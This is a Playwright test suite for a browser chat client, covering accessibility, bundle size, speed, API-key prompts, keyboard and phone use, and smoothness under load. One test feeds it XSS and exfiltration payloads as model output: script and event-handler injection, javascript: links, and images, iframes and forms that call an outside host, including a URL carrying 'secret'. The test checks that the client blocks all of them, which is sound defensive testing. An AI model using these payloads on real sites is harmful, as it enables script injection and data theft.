// What the page is: small, quick, safe, and usable by everybody.
import AxeBuilder from '@axe-core/playwright';
import assert from 'node:assert/strict';
import { readdirSync, statSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import test from 'node:test';
import { articles, browser, composer, conversation, cpuSlowness, lastAnswer, plant, plantAnswer, root, say, slowness, url, visit } from './browser.mjs';

const TALK = [
  { role: 'user', content: 'How does a mixture of experts work?' },
  { role: 'assistant', content: 'A **router** chooses two of eight experts.\n\n```python\nx = router(h)\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n$$y = \\sum_i g_i E_i(x)$$' },
];

test('nothing is amiss for axe, in light and dark, wide and narrow', async (t) => {
  const id = plant(conversation('Accessible', TALK));
  for (const colorScheme of ['light', 'dark']) {
    const page = await visit(t, `/#/chat/${id}`, { colorScheme });
    const check = async (what) => {
      const { violations } = await new AxeBuilder({ page }).withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa']).analyze();
      assert.deepEqual(violations.map(({ id, nodes }) => [id, nodes.map(({ html }) => html)]), [], `${what} in ${colorScheme}`);
    };
    await articles(page).nth(1).locator('math').waitFor();
    await check('a conversation');
    for (const drawer of ['Settings', 'Prompt']) {
      await page.getByRole('button', { name: drawer, exact: true }).click();
      await page.locator(drawer === 'Settings' ? 'aside .panel' : 'aside pre').waitFor();
      await check(drawer);
    }
    await page.keyboard.press('Escape');
    await page.keyboard.press('Control+k');
    await page.locator('[role=option]').first().waitFor();
    await check('the finder');
    await page.keyboard.press('Escape');
    await page.keyboard.press('Control+Shift+O');
    await page.locator('.welcome li').first().waitFor();
    await check('an empty conversation');
    await page.setViewportSize({ width: 390, height: 780 });
    await page.getByRole('button', { name: 'Show rooms' }).click();
    await check('the rail on a phone');
  }
});

test('all of it is under 400 kB packed', () => {
  const dist = join(root, 'web/dist');
  const files = readdirSync(dist, { recursive: true }).filter((name) => name.endsWith('.gz'));
  const bytes = files.reduce((sum, name) => sum + statSync(join(dist, name)).size, 0);
  assert.ok(files.length > 3 && bytes < 400_000, `${files.length} files, ${bytes} bytes`);
});

test('it takes what is typed within a second', async (t) => {
  const page = await visit(t);
  const times = [];
  for (let i = 0; i < 5; i++) {
    await page.goto('about:blank');
    await page.goto(url, { waitUntil: 'commit' });
    await page.waitForFunction(() => document.activeElement?.id === 'composer' && document.querySelector('.welcome h2'));
    times.push(await page.evaluate(() => performance.now()));
  }
  const slow = slowness();
  t.diagnostic(`ready after ${times.map(Math.round).join(', ')} ms; this machine is ${slow.toFixed(1)} times slower than usual`);
  assert.ok(Math.min(...times) < 1000 * slow);
});

test('whatever a model writes is only shown: no script, no style, no picture, no other host', async (t) => {
  const hostile = [
    '<script>window.hurt = 1</script><img src="http://203.0.113.1/a.png" onerror="window.hurt = 1">',
    '![steal](http://203.0.113.1/?q=secret)',
    '[link](javascript:window.hurt=1) <a href="javascript:window.hurt=1">x</a> <iframe src="http://203.0.113.1"></iframe>',
    '<style>body { display: none }</style><div style="position:fixed;inset:0">over</div>',
    '<form action="http://203.0.113.1"><input name=a></form><svg onload="window.hurt=1"></svg>',
    '$\\href{javascript:window.hurt=1}{x}$ $\\includegraphics{http://203.0.113.1/b.png}$',
    '```html\n<script>window.hurt = 1</script>\n```',
  ];
  const id = plant(conversation('<img src=x onerror=window.hurt=1>', [{ role: 'user', content: hostile[0] }, { role: 'assistant', content: hostile.join('\n\n') }]));
  // That the policy was at work is what is wanted. Chromium tells of styles, and newer ones (156) of handlers too, wherever they are
  // parsed, also in the document without a window in which the text is cleaned.
  const handler = /^Executing inline event handler violates .* 'script-src 'self''.* The action has been blocked\.$/;
  const page = await visit(t, `/#/chat/${id}`, { expected: [/Applying inline style violates/, handler] });
  await lastAnswer(page).locator('.hljs-tag').first().waitFor();
  await lastAnswer(page).locator('math').first().waitFor();
  assert.equal(await page.evaluate(() => window.hurt), undefined);
  const found = await lastAnswer(page).locator('script, img, iframe, style, form, input, [style], a[href^=javascript]').count();
  assert.equal(found, 0);
  assert.equal(await page.locator('body').evaluate((body) => getComputedStyle(body).display), 'block');

  const response = await fetch(url, { headers: { accept: 'text/html' } });
  const policy = response.headers.get('content-security-policy');
  assert.match(policy, /default-src 'none'; script-src 'self'; style-src 'self'/);
  assert.doesNotMatch(policy, /unsafe|\*/);
  assert.equal(await (await fetch(url)).text(), 'Ollama is running');
});

test('a server with keys asks once for one; one without history says so and loses nothing on a reload', async (t) => {
  const page = await visit(t, '/', { base: process.env.OCTET_LOCKED_URL, expected: [/401/] });
  const question = page.getByRole('dialog', { name: 'This server asks for a key' });
  await question.getByLabel('API key').fill('wrong');
  await page.keyboard.press('Enter');
  await question.getByText('The server does not know that key').waitFor();
  await question.getByLabel('API key').fill('secret');
  await page.keyboard.press('Enter');
  await page.locator('.welcome h2').waitFor();
  await page.getByText('This server keeps no conversations').waitFor();
  await page.getByRole('button', { name: 'Settings', exact: true }).click();
  await page.getByRole('spinbutton', { name: 'Most tokens' }).fill('4');
  await say(page, 'Hello');
  await lastAnswer(page).getByText('4 tokens').waitFor();
  await page.waitForFunction(() => Object.keys(sessionStorage).some((key) => sessionStorage[key].includes('"finish":"length"')));
  await page.reload();
  await lastAnswer(page).getByText('4 tokens').waitFor();
  assert.equal(await question.count(), 0);
});

test('the keyboard does everything', async (t) => {
  const page = await visit(t);
  await page.locator('.welcome h2').waitFor();
  await composer(page).pressSequentially('one');
  await composer(page).press('Shift+Enter');
  await composer(page).pressSequentially('two');
  assert.equal(await composer(page).inputValue(), 'one\ntwo');
  assert.equal(await articles(page).count(), 0);
  await page.keyboard.press('Control+Shift+Comma');
  await page.locator('aside .panel').waitFor();
  await page.keyboard.press('Escape');
  await page.locator('aside').waitFor({ state: 'detached' });
  await page.locator('main').focus();
  await page.keyboard.press('?');
  await page.getByRole('dialog', { name: 'Keys' }).waitFor();
  await page.keyboard.press('Escape');
  await page.getByRole('dialog').waitFor({ state: 'detached' });
  // Everything is in the order of the tab key, and can be seen there.
  await page.evaluate(() => document.activeElement.blur());
  const seen = new Set();
  for (let i = 0; i < 40; i++) {
    await page.keyboard.press('Tab');
    const at = await page.evaluate(() => ({
      name: document.activeElement.getAttribute('aria-label') ?? document.activeElement.textContent.trim().slice(0, 40),
      // After the last element the browser's own ones follow.
      outlined: document.activeElement === document.body || getComputedStyle(document.activeElement).outlineStyle !== 'none' || document.activeElement.id === 'composer',
    }));
    assert.ok(at.outlined, `${at.name} shows no focus`);
    seen.add(at.name);
  }
  for (const name of ['New chat', 'Settings', 'Prompt', 'Keys', 'More']) assert.ok([...seen].some((one) => one.startsWith(name)), name);
});

test('on a phone the rail slides over, the composer is in reach, nothing is cut off', async (t) => {
  const id = plant(conversation('Phone', TALK));
  const page = await visit(t, `/#/chat/${id}`, { viewport: { width: 360, height: 640 }, hasTouch: true, isMobile: true, reducedMotion: 'reduce' });
  await articles(page).nth(1).waitFor();
  const box = await composer(page).boundingBox();
  assert.ok(box.y + box.height <= 640 && box.x >= 0 && box.x + box.width <= 360);
  assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 360);
  assert.equal(await page.locator('nav').isVisible(), false);
  await page.getByRole('button', { name: 'Show rooms' }).tap();
  await page.locator('nav').getByRole('link', { name: 'Phone' }).first().waitFor();
  // Who asked for less motion gets none.
  const duration = await page.locator('nav').evaluate((nav) => getComputedStyle(nav).transitionDuration);
  assert.match(duration, /^0m?s(, 0m?s)*$/);
  await page.getByRole('button', { name: 'Hide' }).tap({ position: { x: 340, y: 300 } });
  await page.getByRole('button', { name: 'Settings', exact: true }).tap();
  const drawer = await page.locator('aside').boundingBox();
  assert.ok(drawer.x >= 0 && drawer.width <= 360);
});

/** Times between frames while `work` runs, ms, the shortest first. */
async function frameTimes(page, work) {
  await page.evaluate(() => {
    window.times = [];
    let last = performance.now();
    const step = (now) => {
      if (!window.times) return;
      window.times.push(now - last);
      last = now;
      requestAnimationFrame(step);
    };
    requestAnimationFrame(step);
  });
  await work();
  const times = await page.evaluate(() => {
    const times = window.times;
    window.times = null;
    return times;
  });
  return times.sort((a, b) => a - b);
}

/** What the processor spent on each task of the page's thread, ms, out of a trace: time in which it was held up is not in it. */
function tasks(trace) {
  const { traceEvents } = JSON.parse(trace);
  const mains = new Set(traceEvents.filter(({ name, args }) => name === 'thread_name' && args.name === 'CrRendererMain').map(({ pid, tid }) => `${pid}.${tid}`));
  return traceEvents.filter(({ name, ph, pid, tid }) => ph === 'X' && name === 'ThreadControllerImpl::RunTask' && mains.has(`${pid}.${tid}`)).map(({ tdur = 0 }) => tdur / 1000);
}

/**
 * How smooth the page is while `work` runs: frames and tasks, beside frames of the same page when nothing happens, and how many
 * times longer work took than the processor worked on it, for others wanted it too.
 */
async function smoothness(page, work) {
  const idle = await frameTimes(page, () => page.waitForTimeout(500));
  const session = await page.context().newCDPSession(page);
  await session.send('Performance.enable');
  const spent = async () => Object.fromEntries((await session.send('Performance.getMetrics')).metrics.map(({ name, value }) => [name, value * 1000]));
  const before = await spent();
  await browser.startTracing(page, { categories: ['toplevel'] });
  const frames = await frameTimes(page, work);
  const worked = tasks(await browser.stopTracing());
  const after = await spent();
  assert.ok(worked.length > 0, 'the trace has no tasks');
  const middle = (times) => times[times.length >> 1];
  const [wall, cpu] = ['TaskDuration', 'ThreadTime'].map((name) => after[name] - before[name]);
  return { idle: middle(idle), frames: frames.length, median: middle(frames), high: frames[Math.floor(frames.length * 0.95)], worst: frames.at(-1), task: Math.max(...worked), cpu, heldUp: Math.max(1, wall / cpu) };
}

/** A way to the server on which the events of one answer come a few at a time, as from a fast model. */
async function paced(id, events, everyMs) {
  const way = createServer(async (request, response) => {
    const { method, headers } = request;
    const body = method === 'GET' ? null : Buffer.concat(await request.toArray());
    const answer = await fetch(url + request.url, { method, headers: { ...headers, host: new URL(url).host, origin: url }, body });
    const { 'content-encoding': _, 'content-length': __, ...rest } = Object.fromEntries(answer.headers);
    response.writeHead(answer.status, rest);
    const whole = Buffer.from(await answer.arrayBuffer());
    if (!request.url.startsWith(`/octet/answers/${id}`)) return response.end(whole);
    const all = whole.toString().split(/(?<=\n\n)/);
    for (let at = 0; at < all.length && !response.destroyed; at += events) {
      response.write(all.slice(at, at + events).join(''));
      await new Promise((resolve) => setTimeout(resolve, everyMs));
    }
    response.end();
  });
  await new Promise((resolve) => way.listen(0, '127.0.0.1', resolve));
  return { base: `http://127.0.0.1:${way.address().port}`, close: () => (way.closeAllConnections(), way.close()) };
}

test('5,000 tokens, 500 messages and 500 conversations stay smooth', async (t) => {
  const words = 'The router sends each token to two of eight experts, and *their* outputs are added with `weights`. '.split(/(?<= )/);
  const pieces = Array.from({ length: 5000 }, (_, i) => (i % 90 === 89 ? '\n\n' : i % 300 === 150 ? '\n\n```python\nx = 1\n```\n\n' : words[i % words.length]));
  const answer = plantAnswer(pieces);
  const long = plant(conversation('Long answer', [
    { role: 'user', content: 'Write a lot' },
    { role: 'assistant', content: '', runs: [{ id: answer, model: 'small', from: 0, finish: null }] },
  ]));
  const many = plant(conversation('Many messages', Array.from({ length: 500 }, (_, i) => ({ role: i % 2 ? 'assistant' : 'user', content: i % 2 ? `${TALK[1].content}\n\nNumber ${i}` : `Question ${i}` }))));
  for (let i = 0; i < 500; i++) plant(conversation(`Conversation ${i}`, [{ role: 'user', content: `About ${i}` }]), `many-${i}`);

  const { base, close } = await paced(answer, 8, 10);
  const page = await visit(t, '/', { base });
  // Behind the page, which asks it again and again.
  t.after(close);
  await page.locator('nav').getByRole('link', { name: 'Conversation 499' }).waitFor();
  const slow = cpuSlowness();
  /** At most `each` ms of work a step, no task of more than `task`, and half of the frames as soon as two frames of a free machine. */
  const smooth = async (what, { steps, each, task }, work) => {
    const seen = await smoothness(page, work);
    const ms = (value) => `${value.toFixed(1)} ms`;
    t.diagnostic(`${what}: ${ms(seen.cpu / steps)} of work a step, longest task ${ms(seen.task)}; ${seen.frames} frames, median ${ms(seen.median)} (idle ${ms(seen.idle)}), 95% under ${ms(seen.high)}, worst ${ms(seen.worst)}; held up ${seen.heldUp.toFixed(1)} times, processor ${slow.toFixed(1)} times slower than usual`);
    assert.ok(seen.cpu / steps < each * slow, `${what}: ${ms(seen.cpu / steps)} of work a step`);
    assert.ok(seen.task < task * slow, `${what}: a task of ${ms(seen.task)}`);
    assert.ok(seen.median < 2 * Math.max(seen.idle, (1000 / 60) * slow * seen.heldUp), `${what}: a median frame of ${ms(seen.median)}`);
  };
  await smooth('scrolling 500 conversations', { steps: 20, each: 60, task: 100 }, async () => {
    for (let i = 0; i < 20; i++) {
      await page.locator('nav .list').evaluate((list) => list.scrollBy(0, 800));
      await page.waitForTimeout(30);
    }
  });
  await smooth('streaming 5,000 tokens', { steps: 5000, each: 4, task: 200 }, async () => {
    await page.evaluate((id) => (location.hash = `/chat/${id}`), long);
    await lastAnswer(page).getByText('5,000 tokens').waitFor();
  });
  await page.evaluate((id) => (location.hash = `/chat/${id}`), many);
  await page.getByText('Number 499').waitFor();
  await smooth('typing under 500 messages', { steps: 93, each: 60, task: 100 }, () => composer(page).pressSequentially('This is typed without any lag. '.repeat(3), { delay: 20 }));
  await smooth('scrolling 500 messages', { steps: 40, each: 120, task: 200 }, async () => {
    for (let i = 0; i < 40; i++) {
      await page.locator('[role=log]').evaluate((log) => log.scrollBy(0, -900));
      await page.waitForTimeout(30);
    }
  });
});
